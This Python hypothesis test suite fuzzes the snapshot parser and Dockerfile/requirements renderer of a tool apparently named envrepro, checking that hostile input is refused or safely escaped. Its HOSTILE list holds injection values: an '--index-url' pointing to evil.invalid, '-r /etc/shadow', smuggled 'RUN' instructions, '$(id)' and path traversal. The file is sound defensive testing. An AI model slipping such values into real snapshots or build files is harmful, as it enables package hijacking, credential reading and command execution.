"""Property: whatever a snapshot file holds, envrepro refuses it with one exit-2 error, or renders the
template's own Dockerfile instructions and requirements made of PEP 508 lines only.

Valid snapshots (tests/cases/*-snapshot, examples/tiny-model) are mutated by hypothesis: control characters,
line breaks with pip options or Dockerfile instructions after them, unicode, huge values, wrong types,
missing and extra keys. Deterministic (derandomize) and bounded (max_examples); no deadline.
"""

from __future__ import annotations

import copy
import io
import json
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any, TypeVar

import pytest
from dockerfile_parse import DockerfileParser
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from packaging.requirements import Requirement
from pydantic import ValidationError

from envrepro import snapshot
from envrepro.cli import main
from envrepro.data import numerics_env_names
from envrepro.errors import EnvreproError, SnapshotFormatError, UnsafeValueError
from envrepro.lock_io import render_lock_text, requirements_in
from envrepro.render import render
from envrepro.resolve import resolve
from envrepro.target import Lock, LockedRequirement, Target
from envrepro.target import Requirement as TargetRequirement

T = TypeVar("T")
ROOT = Path(__file__).resolve().parent.parent
SOURCES = [*sorted((ROOT / "tests" / "cases").glob("*-snapshot/envrepro.lock.json"))]
SOURCES.append(ROOT / "examples" / "tiny-model" / "envrepro.snapshot.json")
DOCUMENTS = {path.parent.name: json.loads(path.read_text(encoding="utf-8")) for path in SOURCES}
HASH = "sha256:" + "0" * 64
LOCK = Lock(text=f"six==1.17.0 \\\n    --hash={HASH}\n", requirements=())
SETTINGS = settings(
    derandomize=True,
    max_examples=250,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)

HOSTILE = (
    "2.21.0\n--index-url http://evil.invalid/simple",
    "\n-r /etc/shadow",
    "2.21.0\nRUN touch /pwned",
    "3.11.7\r\nRUN id",
    "x\\\nRUN id",
    'x"\nRUN id',
    "x\u2028RUN id",
    "x\x85RUN id",
    "\x00",
    "\x1b[31mred",
    "$(id)",
    "${HOME}",
    "../../etc/passwd",
    "/etc/passwd",
    "2.21.0+cu118",
    "1!2.21.0",
    "2.21.0.post1",
    "TF_ENABLE_ONEDNN_OPTS",
    "https://example.invalid/x",
    "éü🙂",
    "9" * 100_000,
    "",
    " ",
)


def paths(node: Any, prefix: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """Every location in a JSON document, containers included."""
    if prefix:
        yield prefix
    items = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
    for key, child in items:
        yield from paths(child, (*prefix, key))


LOCATIONS = {name: sorted(paths(doc), key=str) for name, doc in DOCUMENTS.items()}

values = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=30),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.none(),
    st.lists(st.sampled_from(["a", 1, None]), max_size=3),
    st.dictionaries(st.text(max_size=8), st.sampled_from(["a", 1]), max_size=2),
)


@st.composite
def mutated_documents(draw: st.DrawFn) -> dict[str, Any]:
    name = draw(st.sampled_from(sorted(DOCUMENTS)))
    doc = copy.deepcopy(DOCUMENTS[name])
    for _ in range(draw(st.integers(min_value=1, max_value=3))):
        where = draw(st.sampled_from(LOCATIONS[name]))
        parent = _node(doc, where[:-1])
        if parent is None:
            continue
        _mutate(draw, parent, where[-1])
    return doc


def _node(doc: Any, where: tuple[str | int, ...]) -> Any:
    for key in where:
        try:
            doc = doc[key]
        except (KeyError, IndexError, TypeError):
            return None
    return doc if isinstance(doc, (dict, list)) else None


def _mutate(draw: st.DrawFn, parent: Any, key: str | int) -> None:
    if (isinstance(parent, dict) and key not in parent) or (
        isinstance(parent, list) and (not isinstance(key, int) or key >= len(parent))
    ):
        return
    operation = draw(st.sampled_from(["replace", "splice", "delete", "extra"]))
    current = parent[key]
    if operation == "splice" and isinstance(current, str):
        at = draw(st.integers(min_value=0, max_value=len(current)))
        parent[key] = current[:at] + draw(st.sampled_from(HOSTILE) | st.characters()) + current[at:]
    elif operation == "delete" and isinstance(parent, dict):
        del parent[key]
    elif operation == "extra" and isinstance(current, dict):
        current[draw(st.text(max_size=12))] = draw(values)
    else:
        parent[key] = draw(values)


# Values inside each grammar, for the fields that reach the Dockerfile and the requirements: these pass
# validation, so they test the second wall (escaping) rather than the first.
versions = st.from_regex(
    r"[0-9]{1,3}(\.[0-9]{1,3}){0,3}((a|b|rc|\.post|\.dev)[0-9]{1,2})?(\+[a-z0-9]{1,6}(\.[a-z0-9]{1,4})?)?",
    fullmatch=True,
)
names = st.from_regex(r"[A-Za-z0-9]([A-Za-z0-9._-]{0,20}[A-Za-z0-9])?", fullmatch=True)
env_values = st.from_regex(r"[A-Za-z0-9 _.,:;=/+@%*-]{0,40}", fullmatch=True)
env_maps = st.dictionaries(st.sampled_from(numerics_env_names()), env_values, max_size=5)


@st.composite
def plausible_documents(draw: st.DrawFn) -> dict[str, Any]:
    name = draw(st.sampled_from(sorted(DOCUMENTS)))
    doc = copy.deepcopy(DOCUMENTS[name])
    env = doc["environment"]
    env["env"] = draw(env_maps)
    env["python"]["version"] = draw(st.sampled_from(["3.11.7", "3.10.12", "3.11.2", "3.12.1", "3.9.0"]))
    if env["tensorflow"] is not None:
        env["tensorflow"]["version"] = draw(st.sampled_from(["2.21.0", "2.12.0", "2.15.1"]) | versions)
    for dist in draw(st.lists(st.sampled_from(env["distributions"]), max_size=4)):
        dist["version"] = draw(versions)
        dist["name"] = draw(st.just(dist["name"]) | names)
    return doc


# --- what a rendering must look like ------------------------------------------------------------------


def instructions(text: str) -> list[str]:
    return [item["instruction"] for item in DockerfileParser(fileobj=io.BytesIO(text.encode())).structure]


def skeleton(target: Target) -> Target:
    """The same template choices (variant, CUDA or not, env present or not) with harmless values."""
    return replace(
        target,
        reason="r",
        base_image="base:tag",
        python_version="3.11.7",
        cuda="1" if target.cuda else None,
        cudnn="1" if target.cudnn else None,
        env=tuple(("E", "v") for _ in target.env),
        labels=tuple((key, "v") for key, _ in target.labels),
    )


def assert_dockerfile_is_the_templates(target: Target) -> None:
    text = dict(render(target, LOCK).files)["Dockerfile"].decode()
    assert text.isascii()
    assert all(line.isprintable() for line in text.splitlines())
    assert instructions(text) == instructions(
        dict(render(skeleton(target), LOCK).files)["Dockerfile"].decode()
    )
    parser = DockerfileParser(fileobj=io.BytesIO(text.encode()))
    assert set(parser.labels) == {key for key, _ in target.labels}


def assert_requirements_are_pep508_lines(target: Target) -> None:
    source = requirements_in(target.requirements)
    for line in source.splitlines():
        requirement = Requirement(line)
        assert str(requirement) == line and not line.startswith("-")
    locked = [LockedRequirement(req.name, req.version, (HASH,)) for req in target.requirements]
    text = render_lock_text("0" * 64, target, locked, target.dropped)
    for entry in text.replace(" \\\n", " ").splitlines():
        if entry.startswith("#"):
            continue
        pin, *options = entry.split()
        assert str(Requirement(pin)) == pin
        assert options == [f"--hash={HASH}"]


def outcome(action: Callable[[], T], refusal: type[EnvreproError]) -> tuple[Any, EnvreproError | None]:
    """(result, None) when `action` succeeds, (None, error) when it raises `refusal`."""
    try:
        return action(), None
    except refusal as exc:
        return None, exc


def assert_one_line_user_error(error: EnvreproError) -> None:
    assert error.exit_code == 2
    assert str(error).isprintable() and len(str(error)) < 1000


def assert_the_error_line_names_the_field(refused: SnapshotFormatError, stderr: str, doc: Any) -> None:
    """A field outside its grammar (pydantic's refusal) is named by its JSON pointer in the one error line,
    `error: PATH is not a valid envrepro snapshot: /json/pointer: rule`, as test_snapshot_validation asserts
    field by field. The other refusals name no field (a schema_version this envrepro does not read)."""
    errors = [line for line in stderr.splitlines() if line.startswith("error:")]
    assert errors == [f"error: {refused}"], stderr
    if not isinstance(refused.__cause__, ValidationError):
        assert not refused.reason.startswith("/"), refused.reason
        return
    loc = refused.__cause__.errors(include_url=False, include_input=False)[0]["loc"]
    pointer = snapshot.json_pointer(loc)
    assert pointer.startswith("/") and refused.reason.startswith(f"{pointer}: "), refused.reason
    assert f" is not a valid envrepro snapshot: {pointer}: " in errors[0]
    assert_pointer_is_in_the_document(pointer, doc)


def assert_pointer_is_in_the_document(pointer: str, doc: Any) -> None:
    """The pointer leads into the document: every token but the last (a required field may be missing)
    names a member there. Tokens escaped for display (a control character in a key) are not followed."""
    tokens = [token.replace("~1", "/").replace("~0", "~") for token in pointer[1:].split("/")]
    node = doc
    for token in tokens[:-1]:
        if "\\" in token or pointer.endswith("..."):
            return
        if isinstance(node, list):
            assert token.isdigit() and int(token) < len(node), (pointer, token)
            node = node[int(token)]
        elif isinstance(node, dict) and token in node:
            node = node[token]
        else:
            return  # a union's branch name (pydantic's location of a tagged or nullable member)


# --- the property -------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def workdir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("hostile")


@SETTINGS
@given(doc=mutated_documents() | plausible_documents())
def test_a_mutated_snapshot_is_refused_with_exit_2_or_renders_only_the_templates_instructions(
    doc: dict[str, Any], workdir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = workdir / "snapshot.json"
    path.write_text(json.dumps(doc), encoding="utf-8")
    snap, refused = outcome(lambda: snapshot.load(path), SnapshotFormatError)
    capsys.readouterr()
    assert main(["show", str(path)]) == (0 if refused is None else 2)
    if refused is not None:
        assert isinstance(refused, SnapshotFormatError)
        assert_one_line_user_error(refused)
        assert_the_error_line_names_the_field(refused, capsys.readouterr().err, doc)
        return
    target, unserved = outcome(lambda: resolve(snap), EnvreproError)
    if unserved is not None:
        assert_one_line_user_error(unserved)
        return
    assert_dockerfile_is_the_templates(target)
    assert_requirements_are_pep508_lines(target)


def test_the_property_sees_both_outcomes(workdir: Path) -> None:
    """Guard against a suite that only ever refuses (or only ever accepts): both outcomes occur."""
    seen: set[str] = set()

    @SETTINGS
    @given(doc=mutated_documents())
    def classify(doc: dict[str, Any]) -> None:
        try:
            snapshot.parse(json.dumps(doc), workdir / "s.json")
        except SnapshotFormatError:
            seen.add("refused")
        else:
            seen.add("accepted")

    classify()
    assert seen == {"refused", "accepted"}


# --- the second wall alone: any text in a Target that was never validated ----------------------------

TEXT_FIELDS = ("reason", "python_version", "cuda", "cudnn", "base_image", "env-value", "env-name", "label")
any_text = (
    st.sampled_from(HOSTILE) | st.text(max_size=40) | st.from_regex(r"[ -~]{0,3}[\n\r\\\"$][ -~]{0,10}")
)


def target_with(field: str, value: str) -> Target:
    target = resolve(snapshot.load(SOURCES[-1]))
    if field == "env-value":
        return replace(target, env=(("TF_XLA_FLAGS", value),))
    if field == "env-name":
        return replace(target, env=((value, "1"),))
    if field == "label":
        return replace(target, labels=(*target.labels, ("io.envrepro.extra", value)))
    return replace(target, **{field: value})


@SETTINGS
@given(field=st.sampled_from(TEXT_FIELDS), value=any_text)
def test_any_text_in_an_unvalidated_target_renders_the_templates_instructions_or_is_refused(
    field: str, value: str
) -> None:
    target = target_with(field, value)
    _, refused = outcome(lambda: assert_dockerfile_is_the_templates(target), UnsafeValueError)
    if refused is not None:
        assert_one_line_user_error(refused)


@SETTINGS
@given(
    name=st.sampled_from(["numpy", "torch"]) | any_text, version=st.sampled_from(["2.1.0+cu118"]) | any_text
)
def test_any_name_or_version_becomes_a_pep508_line_or_is_refused(name: str, version: str) -> None:
    target = replace(target_with("reason", "r"), requirements=(TargetRequirement(name, version),))
    _, refused = outcome(lambda: assert_requirements_are_pep508_lines(target), UnsafeValueError)
    if refused is not None:
        assert_one_line_user_error(refused)
